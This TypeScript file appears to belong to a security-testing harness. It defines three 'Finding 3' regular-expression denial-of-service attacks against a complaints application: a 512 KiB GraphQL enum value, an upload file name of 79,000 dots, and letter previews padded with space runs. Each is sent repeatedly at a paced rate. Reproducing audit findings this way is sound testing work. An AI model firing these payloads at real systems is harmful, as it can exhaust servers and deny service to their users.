/** Finding 3: text that makes a regular expression backtrack. */
import type { Attack } from '../attack.ts'
import { paced } from '../client.ts'
import { fileForm, FORM_TYPE } from '../form.ts'
import { LIST } from './validation.ts'

/** 512 KiB that graphql-js repeats in its error about an enum value. */
export const hints = (): string =>
  JSON.stringify({ query: LIST, variables: { filter: { status: [' Did you mean '.repeat(37_000)] } } })

export const expressionHint: Attack = {
  name: 'expression-hint',
  finding: 3,
  title: 'GraphQL: a value of 512 KiB made of " Did you mean "',
  async play ({ send, signal }) {
    const body = hints()
    await paced(10, 500, signal, () => send({ path: '/graphql', body }))
  },
}

export const expressionFileName: Attack = {
  name: 'expression-file-name',
  finding: 3,
  title: 'uploads whose file name is 79,000 dots and a letter',
  async play ({ send, people: { attackerComplaint }, signal }) {
    const body = fileForm(Buffer.from('tekst'), `a${'.'.repeat(79_000)}b`)
    const path = `/v1/complaints/${attackerComplaint}/attachments`
    await paced(10, 500, signal, () => send({ path, body, headers: { 'content-type': FORM_TYPE } }))
  },
}

/** Text as an author writes it: spaces that do not end a line. */
const SPACES = `x${' '.repeat(19_990)}x`

export const expressionMarkup: Attack = {
  name: 'expression-markup',
  finding: 3,
  title: 'letter previews of 420,000 spaces: an explanation, and 20 grievances with one each',
  async play ({ send, tokens, people: { inReview }, signal }) {
    const grievances = Array.from({ length: 20 }, (_, index) =>
      ({ summary: `Punt ${index}`, decision: 'REJECTED', explanation: SPACES }))
    const input = { decision: 'REJECTED', explanation: SPACES, rootCause: 'PROCESS', channel: 'EMAIL', grievances }
    const body = JSON.stringify({ action: 'ANSWER', input })
    const path = `/v1/complaints/${inReview}/letterPreviews`
    await paced(8, 600, signal, () => send({ token: tokens.handler, path, body }))
  },
}
